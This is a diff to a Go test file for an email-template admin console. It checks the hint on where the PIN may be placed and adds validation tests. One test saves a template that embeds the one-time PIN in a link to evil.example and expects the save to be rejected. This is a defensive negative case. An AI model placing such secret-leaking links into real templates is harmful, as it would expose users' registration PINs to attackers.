@@ -31,6 +31,10 @@ func TestEmailTemplatesConsole(t *testing.T) {
 	admin.expect(edit, 200, "edit page", `{{template &#34;code&#34; .PIN}}`, `name="subject"`, `id="f-html"`, `id="f-text"`,
 		`{{.PIN}}`, "one-time registration PIN", `id="save"`, `id="preview"`)
 	admin.expect(admin.do("GET", "/console/emailtemplates/nope", nil), 404, "unknown email")
+	admin.expect(edit, 200, "edit page's hint on the PIN", `id="secret-placement"`, "never inside a tag or in the subject")
+	if strings.Contains(admin.do("GET", "/console/emailtemplates/invitation_password", nil).body, `id="secret-placement"`) {
+		t.Error("an email without a secret shows the hint on secrets")
+	}
 
 	src := url.Values{"subject": {"Join {{.TenantName}}"}, "html": {hostileHTML}, "text": {"Custom welcome. Code {{.PIN}}"}}
 	preview := url.Values{"action": {"preview"}}
@@ -60,6 +64,9 @@ func TestEmailTemplatesConsole(t *testing.T) {
 	r = admin.do("POST", "/console/emailtemplates/invitation_pin", url.Values{"action": {"save"}, "subject": {"Hi"},
 		"html": {"<p>{{.PIN}</p>"}, "text": {"{{.PIN}}"}})
 	admin.expect(r, 400, "save with a syntax error", `id="f-html-error"`)
+	r = admin.do("POST", "/console/emailtemplates/invitation_pin", url.Values{"action": {"save"}, "subject": {"Hi"},
+		"html": {`<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`}, "text": {"{{.PIN}}"}})
+	admin.expect(r, 400, "save with the PIN in a link", `id="f-html-error"`, "must not be inside a tag")
 
 	save := url.Values{"action": {"save"}}
 	for k, v := range src {
